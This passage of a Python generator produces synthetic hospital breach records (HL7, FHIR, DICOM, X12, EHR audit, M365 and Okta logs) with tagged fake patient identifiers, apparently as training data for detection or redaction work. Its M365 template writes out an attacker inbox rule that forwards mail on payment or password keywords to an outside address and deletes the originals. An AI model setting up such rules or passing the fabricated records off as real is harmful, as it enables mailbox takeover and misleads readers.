    return "4" + rng.choice("56789AB") + "".join(rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(93))


def atk_mail(rng):
    return f"{rng.choice(ATTACKER_LOCAL)}{rng.randint(1, 999) if rng.random() < 0.5 else ''}@{rng.choice(FREEMAIL)}"


# ---------------------------------------------------------------------------------------------
# document context

class Ctx:
    def __init__(self, rng, org):
        self.rng, self.o = rng, org
        self.parse = []  # (kind, Doc) of embedded JSON and XML, checked to parse

    def patient(self, old=None):
        rng = self.rng
        loc = self.o.loc if rng.random() < 0.6 else rng.choice(NAME_LOCALES)
        if loc == "ar_SA":
            loc = "ar_AA"
        p = person(loc, rng)
        p.dob = birth(rng, old=(rng.random() < 0.1) if old is None else old)
        p.mrn = mrn(self.o, rng)
        return p

    def staff(self):
        return self.rng.choice(self.o.staff)

    def actor(self):
        """The staff member a document is about, and when it starts."""
        who = self.staff()
        return who, recent(self.rng)

    def two_staff(self):
        a, b = self.rng.sample(self.o.staff, 2)
        return a, b

    def title(self, p):
        h = HONORIFIC.get(self.o.lang, HONORIFIC["en"])
        if self.o.lang == "en":
            return "Ms." if p.female and self.rng.random() < 0.7 else ("Mrs." if p.female else "Mr.")
        return h[1] if p.female else h[0]

    def email(self, p):
        return f"{p.user}@{self.rng.choice(self.o.domains)}"

    def upn(self, p):
        return f"{p.user}@{self.o.domains[0]}"

    def date(self, d):
        return fmt_date(d, date_style(self.o, self.rng))


def nm(p, form="full"):
    if form == "lf" and not p.cjk:
        return I(p.last_first(), "NAME")
    if form == "LF" and not p.cjk:
        return I(p.last_first().upper(), "NAME")
    if form == "init" and p.latin():
        return I(f"{p.given[0]}. {p.family}", "NAME")
    if form == "first":
        return I(p.given, "NAME")
    if form == "last":
        return I(p.family, "NAME")
    if form == "mid" and p.middle:
        return I(f"{p.given} {p.middle}. {p.family}", "NAME")
    return I(p.full(), "NAME")


def ts(d, style="iso"):
    if style == "iso":
        return N(d.strftime("%Y-%m-%dT%H:%M:%S") + f".{d.microsecond // 1000:03d}Z", "TIMESTAMP")
    if style == "syslog":
        return N(d.strftime("%b %d %H:%M:%S"), "TIMESTAMP")
    if style == "sp":
        return N(d.strftime("%Y-%m-%d %H:%M:%S"), "TIMESTAMP")
    if style == "us":
        return N(d.strftime("%m/%d/%Y %I:%M:%S %p"), "TIMESTAMP")
    return N(d.strftime(style), "TIMESTAMP")


def tick(d, rng, lo=1, hi=400):
    return d + dt.timedelta(seconds=rng.randint(lo, hi), microseconds=rng.randint(0, 999) * 1000)


# ---------------------------------------------------------------------------------------------
# JSON, XML and delimited-text builders whose string leaves may be spans

def jdoc(obj, indent=2, level=0):
    """JSON text as a Doc: leaves that are slot tuples or Docs become spans over the escaped
    text inside the quotes."""
    d = Doc()
    pad = "\n" + " " * (indent * (level + 1)) if indent else ""
    end = "\n" + " " * (indent * level) if indent else ""
    sep = ": " if indent else ":"
    if isinstance(obj, dict):
        if not obj:
            return d.t("{}")
        d.t("{")
        for k, (key, v) in enumerate(obj.items()):
            d.t(("," if k else "") + pad + json.dumps(key, ensure_ascii=False) + sep)
            d.put(jdoc(v, indent, level + 1))
        return d.t(end + "}")
    if isinstance(obj, list):
        if not obj:
            return d.t("[]")
        d.t("[")
        for k, v in enumerate(obj):
            d.t(("," if k else "") + pad)
            d.put(jdoc(v, indent, level + 1))
        return d.t(end + "]")
    if isinstance(obj, tuple):
        return d.t('"').put(Doc().add(*obj).json_escaped()).t('"')
    if isinstance(obj, Doc):
        return d.t('"').put(obj.json_escaped()).t('"')
    return d.t(json.dumps(obj, ensure_ascii=False))


def xml_esc(doc):
    out = Doc()
    for text, cat, typ in doc.seg:
        out.add(xml_escape(text, {'"': "&quot;"}), cat, typ)
    return out


def xel(tag, value=None, attrs=None, children=None, level=0, ns=""):
    """An XML element as a Doc; value (text content) and attribute values may be spans."""
    d = Doc().t("  " * level + "<" + tag + ns)
    for k, v in (attrs or {}).items():
        d.t(f' {k}="').put(xml_esc(Doc().put(v))).t('"')
    if children:
        d.t(">\n")
        for c in children:
            d.put(c)
        return d.t("  " * level + f"</{tag}>\n")
    if value is None:
        return d.t("/>\n")
    return d.t(">").put(xml_esc(Doc().put(value))).t(f"</{tag}>\n")


def delimited(rows, sep):
    """Rows of cells (slot values) joined by sep; a cell holding sep is quoted."""
    d = Doc()
    for row in rows:
        for k, cell in enumerate(row):
            if k:
                d.t(sep)
            plain = Doc().put(cell).plain()
            if sep in plain or '"' in plain:
                d.t('"').put(cell).t('"')
            else:
                d.put(cell)
        d.t("\n")
    return d


def pick(rng, *opts):
    return rng.choice(opts)


def opening(c, frames, **slots):
    """A document's first paragraph: one of the frames, with its slots filled."""
    return Doc().fill(c.rng.choice(frames), **slots)


# ---------------------------------------------------------------------------------------------
# styles: each returns a Doc for one document

def addr_parts(o, rng):
    parts = {}
    for line in address(o, rng):
        for v in line:
            if isinstance(v, tuple) and v[2] not in parts:
                parts[v[2]] = v
    return parts


def hl7_name(p, upper=False):
    fam, giv = (p.family.upper(), p.given.upper()) if upper and p.latin() else (p.family, p.given)
    d = Doc().put(I(fam, "NAME")).t("^").put(I(giv, "NAME"))
    if p.middle:
        d.t("^").put(I(p.middle, "NAME"))
    return d


def s_hl7(c):
    rng, o = c.rng, c.o
    t0 = recent(rng)
    d = Doc()
    eng = pick(rng, "Mirth", "Rhapsody", "Cloverleaf", "Corepoint", "Iguana")
    d.fill(pick(rng,
                "{eng} channel {ch} went into error at {t}; the queue held these messages when the "
                "interface server {srv} was isolated ({fam} encryption started on the share next to it). "
                "Pasting two of them so the vendor can replay.\n\n",
                "Interface errors after we restored {srv} from backup ({fam} hit us last week). "
                "{eng} rejects the ACKs below — posting for the HL7 group, raw as captured:\n\n",
                "Found in the staging folder the intruder zipped up on {srv} (7z, see hash in ticket). "
                "The {fam} operators had read access to the {eng} message archive; sample follows.\n\n"),
           eng=eng, ch=pick(rng, "ADT_IN", "LAB_RESULTS_OUT", "RAD_ORM", "PHARM_RDE"), t=ts(t0, "sp"),
           srv=I(server(o, rng), "HOSTNAME"), fam=X(rng.choice(MALWARE[:38]), "MALWARE"))
    for _ in range(rng.randint(1, 3)):
        p = c.patient()
        doc = c.staff()
        ap = addr_parts(o, rng)
        t1 = tick(t0, rng, 60, 9000)
        ctrl = str(rng.randint(10 ** 8, 10 ** 10))
        kind = pick(rng, "ADT^A08", "ADT^A04", "ADT^A01", "ORU^R01", "ADT^A03")
        segs = Doc()
        segs.fill("MSH|^~\\&|{app}|{fac}|{rapp}|{fac2}|{t}||{kind}|{ctrl}|P|2.{v}\n",
                  app=pick(rng, "EPIC", "CERNER", "MEDITECH", "ATHENA"), fac=I(o.short, "ORG"),
                  rapp=pick(rng, "LIS", "RIS", "PYXIS", "DOCMAN"),
                  fac2=I(o.short + pick(rng, "LAB", "RAD", "_MAIN"), "ORG"), t=N(t1.strftime("%Y%m%d%H%M%S"), "TIMESTAMP"),
                  kind=kind, ctrl=ctrl, v=pick(rng, "3", "4", "5.1", "7"))
        if rng.random() < 0.7:
            segs.fill("EVN|{ev}|{t}||{u}^{fam}^{giv}\n", ev=kind[-3:], t=N(tick(t1, rng).strftime("%Y%m%d%H%M%S"), "TIMESTAMP"),
                      u=I(doc.user, "USERNAME"), fam=I(doc.family, "NAME"), giv=I(doc.given, "NAME"))
        segs.fill("PID|1||{mrn}^^^{fac}^MR~{ssn}^^^SSA^SS||{name}||{dob}|{sex}|||{street}^^{city}^{st}^{zip}^{cty}||{ph}|||{ms}||{acct}|\n",
                  mrn=I(p.mrn, "MRN"), fac=I(o.short, "ORG"), ssn=I(ssn(rng), "SSN"),
                  name=hl7_name(p, upper=rng.random() < 0.5), dob=I(fmt_date(p.dob, "hl7"), "DATE"),
                  sex="F" if p.female else "M", street=ap.get("ADDRESS", I("1 Main St", "ADDRESS")),
                  city=ap.get("CITY", ""), st=pick(rng, "OH", "TX", "") if o.loc == "en_US" else "",
                  zip=ap.get("ZIP", ""), cty="USA" if o.loc == "en_US" else o.loc[-2:],
                  ph=I(phone(o, rng), "PHONE"), ms=pick(rng, "M", "S", "W", "U"),
                  acct=I(f"{rng.randint(10 ** 7, 10 ** 9)}", "ACCOUNT"))
        if rng.random() < 0.6:
            k = c.patient()
            k.family = p.family if rng.random() < 0.5 else k.family
            segs.fill("NK1|1|{name}|{rel}||{ph}\n", name=hl7_name(k), rel=pick(rng, "SPO^Spouse", "DAU^Daughter", "MTH^Mother", "SON^Son"),
                      ph=I(phone(o, rng), "PHONE"))
        segs.fill("PV1|1|{cls}|{unit}^{room}^{bed}^{fac}||||{npi}^{dfam}^{dgiv}^^^DR^^^NPI|||{svc}||||||||{visit}|||||||||||||||||||||||||{adm}\n",
                  cls=pick(rng, "I", "E", "O"), unit=pick(rng, "4W", "ICU", "ED", "MICU", "L&D"),
                  room=str(rng.randint(100, 699)), bed=pick(rng, "A", "B", "1"), fac=I(o.short, "ORG"),
                  npi=I(npi(rng), "LICENSE"), dfam=I(doc.family, "NAME"), dgiv=I(doc.given, "NAME"),
                  svc=pick(rng, "MED", "SUR", "CAR", "ONC"), visit=I(str(rng.randint(10 ** 8, 10 ** 10)), "ACCOUNT"),
                  adm=I(t1.strftime("%Y%m%d%H%M"), "DATETIME"))
        if rng.random() < 0.5:
            segs.fill("IN1|1|{plan}|{payer}|{pname}|||||||||||{sub}|SEL|{sdob}||||||||||||||||||{mid}\n",
                      plan=pick(rng, "BCBS01", "MCR", "AETNA", "MCD", "UHC"), payer=str(rng.randint(1000, 99999)),
                      pname=pick(rng, "Blue Cross", "Medicare Part A", "Aetna Choice POS II", "Medicaid", "UnitedHealthcare"),
                      sub=hl7_name(p), sdob=I(fmt_date(p.dob, "hl7"), "DATE"), mid=I(health_plan(rng), "HEALTH_PLAN"))
        if kind == "ORU^R01":
            segs.fill("OBR|1|{ord}||{test}|||{t}\nOBX|1|TX|{test}||{txt}||||||F\n", ord=I(str(rng.randint(10 ** 6, 10 ** 8)), "ACCOUNT"),
                      test=pick(rng, "CBC^Complete blood count", "BMP^Basic metabolic panel", "TROP^Troponin I"),
                      t=I(tick(t1, rng).strftime("%Y%m%d%H%M"), "DATETIME"),
                      txt=Doc().fill("Called to {rn} RN at {ext}, read back", rn=nm(c.staff(), "first"),
                                     ext=I(f"x{rng.randint(2000, 7999)}", "PHONE")))
        d.put(segs)
        if rng.random() < 0.6:
            d.fill("MSA|AE|{ctrl}|PID-3 duplicate: {name} already on file as {mrn2}\nERR|^^^207&Application internal error&HL70357\n",
                   ctrl=ctrl, name=nm(p, "LF"), mrn2=I(mrn(o, rng), "MRN"))
        d.t("\n")
    d.fill(pick(rng, "-- {who}, integration team, {ext}\n", "Thanks, {who} ({ext})\n"),
           who=nm(c.staff()), ext=I(f"ext. {rng.randint(1000, 8999)}", "PHONE"))
    return d


def fhir_patient(c, p, pid):
    rng, o = c.rng, c.o
    ap = addr_parts(o, rng)
    res = {"resourceType": "Patient", "id": N(pid, "RESOURCE_ID"),
           "identifier": [{"system": f"urn:oid:2.16.840.1.113883.3.{rng.randint(100, 9999)}", "value": I(p.mrn, "MRN")}],
           "name": [{"use": "official", "family": I(p.family, "NAME"), "given": [I(p.given, "NAME")]}],
           "telecom": [{"system": "phone", "value": I(phone(o, rng), "PHONE"), "use": "home"}],
           "gender": "female" if p.female else "male", "birthDate": I(p.dob.isoformat(), "DATE"),
           "address": [{"line": [ap["ADDRESS"]], "city": ap.get("CITY", ""), "postalCode": ap.get("ZIP", "")}]}
    if rng.random() < 0.5:
        res["identifier"].append({"system": "http://hl7.org/fhir/sid/us-ssn", "value": I(ssn(rng), "SSN")})
    if rng.random() < 0.4:
        res["telecom"].append({"system": "email", "value": I(f"{ascii_fold(p.given).lower() or 'pt'}{rng.randint(1, 99)}@{rng.choice(['gmail.com', 'yahoo.com', 'hotmail.com', 'icloud.com'])}", "EMAIL")})
    if rng.random() < 0.5:
        k = c.patient()
        res["contact"] = [{"relationship": [{"text": pick(rng, "spouse", "daughter", "guardian")}],
                           "name": {"text": I(k.full(), "NAME")},
                           "telecom": [{"system": "phone", "value": I(phone(o, rng), "PHONE")}]}]
    return res


def s_fhir_json(c):
    rng, o = c.rng, c.o
    entries = []
    for _ in range(rng.randint(1, 3)):
        p = c.patient()
        pid = hexs(rng, 8) + "-" + hexs(rng, 4) + "-4" + hexs(rng, 3) + "-a" + hexs(rng, 3) + "-" + hexs(rng, 12)
        entries.append({"fullUrl": N(f"urn:uuid:{pid}", "RESOURCE_ID"), "resource": fhir_patient(c, p, pid)})
        if rng.random() < 0.6:
            t = recent(rng)
            entries.append({"resource": {"resourceType": "Encounter", "status": "finished",
                                         "subject": {"reference": N(f"urn:uuid:{pid}", "RESOURCE_ID"), "display": I(p.full(), "NAME")},
                                         "period": {"start": I(t.strftime("%Y-%m-%dT%H:%M:%S-05:00"), "DATETIME")},
                                         "participant": [{"individual": {"display": Doc().put(N("Dr.", "TITLE")).t(" ").put(nm(c.staff()))}}],
                                         "serviceProvider": {"display": I(o.name, "ORG")}}})
    bundle = {"resourceType": "Bundle", "type": pick(rng, "searchset", "transaction", "collection"),
              "total": len(entries), "entry": entries}
    atk = pub_ip(rng)
    d = Doc()
    d.fill(pick(rng,
                "WAF caught an outbound POST from {h} ({lip}) to {u} carrying a FHIR Bundle. Source IP of the "
                "session that pulled it through our SMART app: {ip}. Body below (truncated headers removed).\n\n",
                "Exfil sample recovered from {u} (leak site mirror). It is our {org} FHIR search output — "
                "the attacker ({ip}) used a stolen client secret on {h} ({lip}).\n\n"),
           h=I(server(o, rng), "HOSTNAME"), lip=I(lan_ip(o, rng), "IP"), u=X(url_ind(rng), "URL"),
           ip=X(atk, "IPV4"), org=I(o.name, "ORG"))
    c.parse.append(("json", jdoc(bundle, indent=pick(rng, 2, 2, 0))))
    d.put(c.parse[-1][1])
    d.fill("\n\nQuery seen in the proxy log: {url}\n",
           url=I(f"https://fhir.{o.domain}/R4/Patient?identifier={entries[0]['resource']['identifier'][0]['value'][0]}&_count=500", "URL"))
    return d


def s_fhir_xml(c):
    rng, o = c.rng, c.o
    p = c.patient()
    ap = addr_parts(o, rng)
    pid = str(rng.randint(10 ** 5, 10 ** 7))
    ns = ' xmlns="http://hl7.org/fhir"'
    kids = [xel("id", attrs={"value": N(pid, "RESOURCE_ID")}, level=1),
            xel("identifier", level=1, children=[xel("system", attrs={"value": f"urn:oid:1.2.36.146.595.217.0.{rng.randint(1, 99)}"}, level=2),
                                                 xel("value", attrs={"value": I(p.mrn, "MRN")}, level=2)]),
            xel("name", level=1, children=[xel("family", attrs={"value": I(p.family, "NAME")}, level=2),
                                           xel("given", attrs={"value": I(p.given, "NAME")}, level=2)]),
            xel("telecom", level=1, children=[xel("system", attrs={"value": "phone"}, level=2),
                                              xel("value", attrs={"value": I(phone(o, rng), "PHONE")}, level=2)]),
            xel("gender", attrs={"value": "female" if p.female else "male"}, level=1),
            xel("birthDate", attrs={"value": I(p.dob.isoformat(), "DATE")}, level=1),
            xel("address", level=1, children=[xel("line", attrs={"value": ap["ADDRESS"]}, level=2)]
                + ([xel("city", attrs={"value": ap["CITY"]}, level=2)] if "CITY" in ap else [])
                + ([xel("postalCode", attrs={"value": ap["ZIP"]}, level=2)] if "ZIP" in ap else [])),
            xel("generalPractitioner", level=1, children=[xel("display", attrs={"value": nm(c.staff())}, level=2)]),
            xel("managingOrganization", level=1, children=[xel("display", attrs={"value": I(o.name, "ORG")}, level=2)])]
    d = Doc()
    d.fill(pick(rng,
                "The legacy HIE feed on {h} still answers unauthenticated GETs. {ip} fetched {n} Patient resources "
                "overnight ({ua}). One of them, as served:\n\n",
                "From the {fam} affiliate's data dump (downloaded via {u}), file Patient_{pid}.xml — ours, {h} format:\n\n"),
           h=I(server(o, rng), "HOSTNAME"), ip=X(pub_ip(rng), "IPV4"), n=str(rng.randint(40, 9000)),
           ua=pick(rng, "python-requests/2.31", "curl/8.4.0", "Go-http-client/1.1"),
           fam=X(rng.choice(MALWARE[:38]), "MALWARE"), u=X(url_ind(rng), "URL"), pid=N(pid, "RESOURCE_ID"))
    c.parse.append(("xml", Doc().t('<?xml version="1.0" encoding="UTF-8"?>\n').put(xel("Patient", children=kids, ns=ns))))
    d.put(c.parse[-1][1])
    return d


def dcm_line(tag, vr, val, name):
    d = Doc().t(f"({tag}) {vr} [").put(val).t("]")
    n = len(Doc().put(val).plain())
    return d.t(" " * max(1, 38 - n) + f"#  {n + (n % 2):2d}, 1 {name}\n")


def s_dicom(c):
    rng, o = c.rng, c.o
    p = c.patient()
    ref = c.staff()
    study = recent(rng)
    age = age_of(p.dob)
    age_v = I(f"{age:03d}Y", "AGE") if age >= 90 else N(f"{age:03d}Y", "AGE_UNDER_90")
    d = Doc()
    d.fill(pick(rng,
                "Modality {st} ({ip}) sent C-STORE to an unknown AE at {atk}:104 after the {fam} intrusion. "
                "dcmdump of one object from the capture:\n\n",
                "PACS audit: study pushed from {st} ({ip}) to external node {atk} — header of the first "
                "instance (pixel data removed):\n\n"),
           st=I(host(o, rng, "upper-dept"), "HOSTNAME"), ip=I(lan_ip(o, rng), "IP"), atk=X(pub_ip(rng), "IPV4"),
           fam=X(rng.choice(MALWARE), "MALWARE"))
    d.t("# Dicom-File-Format\n\n# Dicom-Meta-Information-Header\n(0002,0013) SH [OFFIS_DCMTK_369]                        #  16, 1 ImplementationVersionName\n\n# Dicom-Data-Set\n")
    d.put(dcm_line("0008,0020", "DA", I(study.strftime("%Y%m%d"), "DATE"), "StudyDate"))
    d.put(dcm_line("0008,0030", "TM", N(study.strftime("%H%M%S"), "TIME"), "StudyTime"))
    d.put(dcm_line("0008,0050", "SH", I(f"{o.short[:2]}{rng.randint(10 ** 6, 10 ** 8)}", "ACCOUNT"), "AccessionNumber"))
    d.put(dcm_line("0008,0060", "CS", pick(rng, "CT", "MR", "CR", "US", "MG"), "Modality"))
    d.put(dcm_line("0008,0070", "LO", pick(rng, "SIEMENS", "GE MEDICAL SYSTEMS", "Philips", "Canon_MEC"), "Manufacturer"))
    d.put(dcm_line("0008,0080", "LO", I(o.name, "ORG"), "InstitutionName"))
    d.put(dcm_line("0008,0090", "PN", Doc().put(I(ref.family, "NAME")).t("^").put(I(ref.given, "NAME")), "ReferringPhysicianName"))
    d.put(dcm_line("0008,1010", "SH", I(host(o, rng, "upper-dept"), "HOSTNAME"), "StationName"))
    d.put(dcm_line("0010,0010", "PN", hl7_name(p, upper=rng.random() < 0.5), "PatientName"))
    d.put(dcm_line("0010,0020", "LO", I(p.mrn, "MRN"), "PatientID"))
    d.put(dcm_line("0010,0030", "DA", I(fmt_date(p.dob, "hl7"), "DATE"), "PatientBirthDate"))
    d.put(dcm_line("0010,0040", "CS", "F" if p.female else "M", "PatientSex"))
    d.put(dcm_line("0010,1010", "AS", age_v, "PatientAge"))
    if rng.random() < 0.5:
        d.put(dcm_line("0010,1040", "LO", addr_inline(o, rng, " "), "PatientAddress"))
    d.put(dcm_line("0018,1000", "LO", I(device_serial(rng), "DEVICE_SERIAL"), "DeviceSerialNumber"))
    d.put(dcm_line("0032,1032", "PN", Doc().put(I(c.staff().family, "NAME")), "RequestingPhysician"))
    return d


def s_x12(c):
    rng, o = c.rng, c.o
    p = c.patient()
    prov = c.staff()
    oa, pa = addr_parts(o, rng), addr_parts(o, rng)
    t = recent(rng)
    up = rng.random() < 0.7
    U = (lambda s: s.upper()) if up else (lambda s: s)
    sep = pick(rng, "~\n", "~")
    segs = []
    segs.append(Doc().fill("ISA*00*          *00*          *ZZ*{snd}*ZZ*{rcv}*{d}*{tm}*^*00501*{ctl}*0*P*:",
                           snd=I(f"{o.short}{rng.randint(10, 99)}".ljust(15)[:15].strip(), "ORG"),
                           rcv=pick(rng, "AVAILITY", "CHANGEHC", "OPTUM", "WAYSTAR"),
                           d=N(t.strftime("%y%m%d"), "TIMESTAMP"), tm=N(t.strftime("%H%M"), "TIMESTAMP"),
                           ctl=f"{rng.randint(1, 999999999):09d}"))
    kind = pick(rng, "837", "270")
    segs.append(Doc().fill("ST*{k}*{n}*005010X{v}", k=kind, n=f"{rng.randint(1, 9999):04d}",
                           v="222A1" if kind == "837" else "279A1"))
    segs.append(Doc().fill("NM1*85*2*{org}*****XX*{npi}", org=I(U(o.name), "ORG"), npi=I(npi(rng), "LICENSE")))
    segs.append(Doc().fill("N3*{a}", a=oa["ADDRESS"]))
    if "CITY" in oa:
        segs.append(Doc().fill("N4*{c}*{st}*{z}", c=oa["CITY"], st=pick(rng, "OH", "GA", "NY", "CA"), z=oa.get("ZIP", "")))
    segs.append(Doc().fill("NM1*IL*1*{fam}*{giv}****MI*{mid}", fam=I(U(p.family), "NAME"), giv=I(U(p.given), "NAME"),
                           mid=I(health_plan(rng), "HEALTH_PLAN")))
    segs.append(Doc().fill("N3*{a}", a=pa["ADDRESS"]))
    if "CITY" in pa:
        segs.append(Doc().fill("N4*{c}*{st}*{z}", c=pa["CITY"], st=pick(rng, "OH", "GA", "NY", "CA"), z=pa.get("ZIP", "")))
    segs.append(Doc().fill("DMG*D8*{dob}*{s}", dob=I(fmt_date(p.dob, "hl7"), "DATE"), s="F" if p.female else "M"))
    if kind == "837":
        segs.append(Doc().fill("CLM*{acct}*{amt}***11:B:1*Y*A*Y*Y", acct=I(f"{o.short[:3]}{rng.randint(10 ** 5, 10 ** 8)}", "ACCOUNT"),
                               amt=f"{rng.randint(80, 9000)}.{rng.randint(0, 99):02d}"))
        segs.append(Doc().fill("DTP*472*D8*{dos}", dos=I((t - dt.timedelta(days=rng.randint(1, 30))).strftime("%Y%m%d"), "DATE")))
        segs.append(Doc().fill("NM1*82*1*{fam}*{giv}****XX*{npi}", fam=I(U(prov.family), "NAME"), giv=I(U(prov.given), "NAME"),
                               npi=I(npi(rng), "LICENSE")))
        segs.append(Doc().fill("SV1*HC:{cpt}*{amt}*UN*1***1", cpt=pick(rng, "99213", "99285", "71046", "93000"),
                               amt=f"{rng.randint(80, 900)}"))
    else:
        segs.append(Doc().t("EQ*30"))
    segs.append(Doc().fill("SE*{n}*{k}", n=str(rng.randint(12, 40)), k=f"{rng.randint(1, 9999):04d}"))
    d = Doc()
    d.fill(pick(rng,
                "Clearinghouse flagged batch {b} as malformed after {fam} touched the billing share on {h}. "
                "Someone pasted the raw {k} into the vendor chat; copying here so we know what left:\n\n",
                "{k} file recovered from the archive the actors staged at C:\\PerfLogs\\{z} on {h} "
                "(SHA-256 {hash}):\n\n"),
           b=str(rng.randint(1000, 99999)), fam=X(rng.choice(MALWARE), "MALWARE"), h=I(server(o, rng), "HOSTNAME"),
           k=kind, z=f"{hexs(rng, 6)}.7z", hash=X(hexs(rng, 64), "SHA256"))
    for s in segs:
        d.put(s).t(sep)
    return d.t("\n")


BTG_REASONS = ["Emergency care", "Break the glass - patient in ED", "Continuity of care",
               "Billing inquiry", "Other (free text)", "Quality review", "Curious - family member"]


def s_audit_csv(c):
    rng, o = c.rng, c.o
    who, t = c.actor()
    sep = pick(rng, ",", ",", ";", "\t")
    rows = [pick(rng, ["AccessTime", "UserID", "UserName", "Workstation", "PatientMRN", "PatientName", "Action", "Reason", "BTG"],
                 ["time", "user_id", "user_name", "device", "mrn", "patient", "event", "btg_reason", "btg_flag"])]
    ws = I(host(o, rng), "HOSTNAME")
    for _ in range(rng.randint(6, 13)):
        t = tick(t, rng, 20, 1500)
        p = c.patient()
        u = who if rng.random() < 0.7 else c.staff()
        rows.append([ts(t, pick(rng, "sp", "us")), I(u.user, "USERNAME"), nm(u, "LF"), ws if u is who else I(host(o, rng), "HOSTNAME"),
                     I(p.mrn, "MRN"), nm(p, pick(rng, "LF", "lf")),
                     pick(rng, "Chart Opened", "Results Viewed", "Report Printed", "Demographics Viewed", "Notes Viewed"),
                     pick(rng, *BTG_REASONS), pick(rng, "Y", "N")])
    d = Doc()
    d.fill(pick(rng,
                "Privacy office asked us to check whether {name} ({u}) was phished — {n} break-the-glass opens "
                "between midnight and 4 AM, all from {ws}. Their account also logged in from {ip} the same night. "
                "Audit export from the EHR:\n\n",
                "BTG report, after-hours, for the insider review ({org}). {name}'s badge was at home but "
                "the session on {ws} kept going; sign-in came from {ip}.\n\n"),
           name=nm(who), u=I(who.user, "USERNAME"), n=str(len(rows) - 1), ws=ws, ip=X(pub_ip(rng), "IPV4"), org=I(o.name, "ORG"))
    d.put(delimited(rows, sep))
    return d


def s_audit_json(c):
    rng, o = c.rng, c.o
    who, t = c.actor()
    d = Doc()
    d.fill(pick(rng, "EHR audit (JSON lines) for {u}, exported by {me}:\n\n",
                "Flagged access events, user {u}, pulled by {me} for the {fam} investigation:\n\n"),
           u=I(who.user, "USERNAME"), me=nm(c.staff()), fam=X(rng.choice(MALWARE), "MALWARE"))
    for _ in range(rng.randint(4, 9)):
        t = tick(t, rng, 5, 600)
        p = c.patient(old=rng.random() < 0.15)
        age = age_of(p.dob)
        ev = {"ts": ts(t, "iso"), "actor": {"id": I(who.user, "USERNAME"), "display": nm(who)},
              "client": {"host": I(host(o, rng), "HOSTNAME"), "ip": I(lan_ip(o, rng), "IP")},
              "patient": {"mrn": I(p.mrn, "MRN"), "name": nm(p), "dob": I(p.dob.isoformat(), "DATE"),
                          "age": I(str(age), "AGE") if age >= 90 else N(str(age), "AGE_UNDER_90")},
              "action": pick(rng, "VIEW_CHART", "PRINT", "EXPORT_CCD", "VIEW_RESULT"),
              "btg": rng.random() < 0.5}
        c.parse.append(("json", jdoc(ev, indent=0)))
        d.put(c.parse[-1][1]).t("\n")
    return d


def guid(rng):
    return f"{hexs(rng, 8)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 12)}"


def s_m365(c):
    rng, o = c.rng, c.o
    v, t = c.actor()
    atk = pub_ip(rng)
    recs = []
    tenant = o.short.lower()
    ukey = I(guid(rng), "ACCOUNT")
    for _ in range(rng.randint(2, 4)):
        t = tick(t, rng, 30, 3000)
        op = pick(rng, "MailItemsAccessed", "New-InboxRule", "FileDownloaded", "UserLoggedIn", "Set-InboxRule")
        r = {"CreationTime": ts(t, "%Y-%m-%dT%H:%M:%S"), "Id": guid(rng), "Operation": op,
             "RecordType": rng.randint(1, 60), "ResultStatus": "Succeeded",
             "UserKey": ukey, "UserType": 0, "Workload": "Exchange" if "Inbox" in op or "Mail" in op else "SharePoint",
             "ClientIP": X(atk, "IPV4"), "UserId": I(c.upn(v), "EMAIL")}
        if op in ("New-InboxRule", "Set-InboxRule"):
            r["Parameters"] = [{"Name": "Name", "Value": pick(rng, ".", "..", "rss", "Archive-sync")},
                               {"Name": "ForwardTo", "Value": X(atk_mail(rng), "EMAIL")},
                               {"Name": "SubjectOrBodyContainsWords", "Value": pick(rng, "invoice;payment;wire", "lab result;MRN", "password;reset")},
                               {"Name": "DeleteMessage", "Value": "True"}]
        elif op == "FileDownloaded":
            p = c.patient()
            r["ObjectId"] = I(f"https://{tenant}.sharepoint.com/sites/{pick(rng, 'CaseManagement', 'Oncology', 'HIM', 'Billing')}/Shared Documents/{ascii_fold(p.family).replace(' ', '') or 'pt'}_{p.mrn}.pdf", "URL")
        elif op == "MailItemsAccessed":
            r["MailboxOwnerUPN"] = I(c.upn(v), "EMAIL")
            r["ClientInfoString"] = "Client=REST;Client=RESTSystem;;"
        recs.append(r)
    d = Doc()
    d.fill(pick(rng,
                "BEC on {name}'s mailbox ({title}). Purview audit search, ClientIP {ip} only:\n\n",
                "From the unified audit log. {name} says they never approved the MFA prompt; we see the session "
                "from {ip} ({asn}).\n\n"),
           name=nm(v), title=pick(rng, "revenue cycle", "nurse manager", "payroll", "CFO's assistant"),
           ip=X(atk, "IPV4"), asn=pick(rng, "AS9009 M247", "AS16276 OVH", "AS14061 DigitalOcean", "AS62240 Clouvider"))
    c.parse.append(("json", jdoc(recs, indent=pick(rng, 2, 0))))
    d.put(c.parse[-1][1])
    d.fill("\n\nRule removed and sessions revoked by {me}.\n", me=nm(c.staff(), pick(rng, "full", "init")))
    return d


def s_signin(c):
    rng, o = c.rng, c.o
    d = Doc()
    d.fill(pick(rng, "Okta System Log, filtered on the target user, exported by {me}:\n\n",
                "Identity provider events around the token theft (exported JSON, {me}):\n\n"), me=nm(c.staff()))
    evs = []
    t = recent(rng)
    for _ in range(rng.randint(2, 4)):
        v = c.staff()
        t = tick(t, rng, 10, 900)
        atk = rng.random() < 0.7
        ev = {"published": ts(t, "iso"), "eventType": pick(rng, "user.session.start", "user.mfa.factor.deactivate",
                                                                "system.push.send_factor_verify_push", "user.account.reset_password"),
              "actor": {"id": I("00u" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(17)), "ACCOUNT"),
                        "type": "User", "alternateId": I(c.upn(v), "EMAIL"), "displayName": nm(v)},
              "client": {"ipAddress": X(pub_ip(rng), "IPV4") if atk else I(lan_ip(o, rng), "IP"),
                         "geographicalContext": {"city": N(pick(rng, "Amsterdam", "Frankfurt am Main", "Ashburn", "Lagos", "Bucharest"), "GEO_ATTACKER")}
                         if atk else {"city": None},
                         "device": "Computer"},
              "outcome": {"result": pick(rng, "SUCCESS", "FAILURE", "ALLOW")}}
        if rng.random() < 0.5:
            ev["target"] = [{"type": "User", "alternateId": I(c.upn(v), "EMAIL"), "displayName": nm(v)}]
        if not atk:
            ev["device"] = {"name": I(host(o, rng), "HOSTNAME")}
        evs.append(ev)
    c.parse.append(("json", jdoc(evs, indent=2)))
    d.put(c.parse[-1][1])
    return d


def s_vpn(c):
    rng, o = c.rng, c.o
    t = recent(rng)
    d = Doc()
    d.fill(pick(rng, "VPN logs for the suspicious logins ({cve} suspected):\n", "Citrix/VPN gateway excerpt, {cve} exploitation window:\n"),
           cve=X(rng.choice(CVES), "CVE"))
